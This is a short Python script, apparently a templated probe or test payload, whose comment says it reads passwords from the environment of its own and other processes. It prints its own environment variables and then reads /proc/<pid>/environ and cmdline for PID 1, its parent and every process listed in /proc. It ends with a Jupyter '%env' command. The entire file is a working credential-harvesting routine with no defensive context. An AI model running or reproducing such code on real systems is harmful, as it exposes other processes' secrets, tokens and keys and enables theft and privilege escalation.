# Reads passwords from the environment, its own and that of others.
import os
import subprocess

print(os.environ, os.environb)
for pid in ("self", "1", "@PID@", str(os.getppid()), *os.listdir("/proc")):
    try:
        print(open(f"/proc/{pid}/environ").read(), open(f"/proc/{pid}/cmdline").read())
    except OSError as error:
        print(error)
%env
